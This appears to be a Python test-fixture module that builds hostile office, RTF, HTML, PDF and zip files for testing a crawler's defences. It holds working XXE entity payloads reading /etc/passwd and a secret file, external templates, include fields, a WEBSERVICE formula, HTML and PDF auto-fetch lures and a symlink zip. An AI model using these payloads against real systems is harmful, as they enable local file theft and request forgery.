# ruff: noqa: E501 - documents are kept in as few pieces as can be
"""Documents that ask their reader for an address or for a file of its machine."""

from __future__ import annotations

from typing import NamedTuple

from tests.crawler.hostile.office import ODT_HEAD, ODT_TAIL, changed, odt, plain_docx, plain_pptx
from tests.crawler.hostile.packing import archive, member
from tests.crawler.hostile.pdf_builder import PdfBuilder, show
from tests.crawler.hostile.sheets import ods, plain_xlsx

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_LINE = "<w:p><w:r><w:t>CONTROL {}</w:t></w:r></w:p>"


class Bait(NamedTuple):
    """An address that counts its callers, and the path of a file with a secret."""

    url: str
    path: str


def _doctype(bait: Bait) -> str:
    return (
        f'<!DOCTYPE d SYSTEM "{bait.url}/d.dtd" [<!ENTITY secret SYSTEM "file://{bait.path}">'
        '<!ENTITY users SYSTEM "file:///etc/passwd">'
        f'<!ENTITY % far SYSTEM "{bait.url}/far"> %far; <!ENTITY near SYSTEM "{bait.url}/near">]>'
    )


def _word(content: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{_W}" xmlns:r="{_R}" xmlns:a="{_A}">'
        f"<w:body>{content}</w:body></w:document>"
    ).encode()


def _docx_entities(bait: Bait) -> bytes:
    text = _LINE.format("&secret;&users;&near;")
    return changed(plain_docx(), document_xml=_word(text, _doctype(bait)))


def _relations(*targets: str, kind: str = "image") -> str:
    listed = "".join(
        f'<Relationship Id="out{i}" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'
        for i, target in enumerate(targets)
    )
    return f"{listed}</Relationships>"


def _docx_links(bait: Bait) -> bytes:
    parts = plain_docx()
    relations = parts["word/_rels/document.xml.rels"].decode()
    added = _relations(f"{bait.url}/a.png", f"file://{bait.path}", "file:///etc/passwd")
    pictures = "".join(
        f'<w:p><w:r><w:drawing><a:blip r:link="out{i}" r:embed="out{i}"/></w:drawing></w:r></w:p>'
        for i in range(3)
    )
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{words}</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for words in (f'INCLUDETEXT "{bait.path}"', f'INCLUDEPICTURE "{bait.url}/b.png" \\d')
    )
    return changed(
        parts,
        document_xml=_word(_LINE.format("") + pictures + fields + '<w:altChunk r:id="out1"/>'),
        document_xml_rels=relations.replace("</Relationships>", added).encode(),
    )


def _docx_template(bait: Bait) -> bytes:
    relations = f'<Relationships xmlns="{_RELATIONS}">' + _relations(
        f"{bait.url}/evil.dotm", kind="attachedTemplate"
    )
    return changed(
        plain_docx(),
        member("word/_rels/settings.xml.rels", relations.encode()),
        document_xml=_word(_LINE.format("")),
    )


def _xlsx_entities(bait: Bait) -> bytes:
    strings = (
        f'<?xml version="1.0"?>{_doctype(bait)}<sst xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><si><t>CONTROL &secret;&users;&near;</t></si></sst>'
    )
    return changed(plain_xlsx(), sharedStrings_xml=strings.encode())


def _pptx_entities(bait: Bait) -> bytes:
    slide = plain_pptx()["ppt/slides/slide1.xml"].decode().partition("?>")[2]
    slide = slide.replace("</a:t>", "CONTROL &secret;&users;&near;</a:t>")
    return changed(
        plain_pptx(), slide1_xml=f'<?xml version="1.0"?>{_doctype(bait)}{slide}'.encode()
    )


def _odt_content(bait: Bait) -> bytes:
    links = (
        f'<text:section text:name="s"><text:section-source xlink:href="file://{bait.path}"/>'
        f'</text:section><text:section text:name="t"><text:section-source xlink:href="{bait.url}/t.odt"'
        '/></text:section><text:p>CONTROL<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:'
        f'drawing:1.0"><draw:image xlink:href="{bait.url}/a.png" xlink:type="simple" xlink:show="embed"'
        ' xlink:actuate="onLoad"/></draw:frame></text:p>'
    )
    return odt(ODT_HEAD + links.encode() + ODT_TAIL)


def _odt_entities(bait: Bait) -> bytes:
    text = b"<text:p>CONTROL &secret;&users;&near;</text:p>"
    return odt(_doctype(bait).encode() + ODT_HEAD + text + ODT_TAIL)


def _ods_links(bait: Bait) -> bytes:
    return ods(
        '<table:table table:name="a"><table:table-source xmlns:xlink="http://www.w3.org/1999/xlink"'
        f' xlink:href="file://{bait.path}" table:filter-name="Text - txt - csv (StarCalc)"/>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>CONTROL</text:p>'
        f'</table:table-cell><table:table-cell table:formula="of:=WEBSERVICE(&quot;{bait.url}/w&quot;)"'
        ' office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
    )


def _rtf(bait: Bait) -> bytes:
    path = bait.path.replace("\\", "\\\\")
    return (
        "{\\rtf1\\ansi{\\*\\template " + bait.url + '/x.dot}CONTROL{\\field{\\*\\fldinst INCLUDETEXT "'
        + path + '"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE "' + bait.url
        + '/a.png" \\\\d}{\\fldrslt x}}\\par}'
    ).encode()  # fmt: skip


def _html(bait: Bait) -> bytes:
    return (
        f'<!DOCTYPE html [<!ENTITY secret SYSTEM "file://{bait.path}">]><base href="file://{bait.path}">'
        f'<meta http-equiv="refresh" content="0;url={bait.url}/moved"><link rel="stylesheet" href='
        f'"{bait.url}/a.css"><script src="{bait.url}/a.js"></script><iframe src="file://{bait.path}">'
        f'</iframe><img src="{bait.url}/a.png"><p>CONTROL &secret;</p><?xml-stylesheet href="{bait.url}"?>'
    ).encode()


def _pdf(bait: Bait) -> bytes:
    builder = PdfBuilder()
    stream = builder.put(
        f"<< /Length 0 /F << /Type /Filespec /FS /URL /F ({bait.url}/s) >> >>\nstream\n\nendstream"
    )
    near = builder.put(f"<< /Length 0 /F ({bait.path}) >>\nstream\n\nendstream")
    builder.page(
        show("control CONTROL"),
        resources=f"/XObject << /A {stream} 0 R /B {near} 0 R >>",
        entries=f"/MediaBox [0 0 600 800] /AA << /O << /S /URI /URI ({bait.url}/open) >> >>",
    )
    return builder.build().replace(b" /ToUnicode 4 0 R", b"")


def _zip(bait: Bait) -> bytes:
    """An archive whose only file is a link to the secret, as Unix stores links."""
    body = archive(member("a.txt", bait.path.encode()), member("b.html", b"<p>CONTROL</p>"))
    place = body.index(b"PK\x01\x02")
    body = body[: place + 5] + b"\x03" + body[place + 6 :]
    return body[: place + 38] + (0o120777 << 16).to_bytes(4, "little") + body[place + 42 :]


LURES = {
    "entities.docx": _docx_entities,
    "links.docx": _docx_links,
    "template.docx": _docx_template,
    "entities.xlsx": _xlsx_entities,
    "entities.pptx": _pptx_entities,
    "links.odt": _odt_content,
    "entities.odt": _odt_entities,
    "links.ods": _ods_links,
    "links.rtf": _rtf,
    "links.html": _html,
    "streams.pdf": _pdf,
    "links.zip": _zip,
}
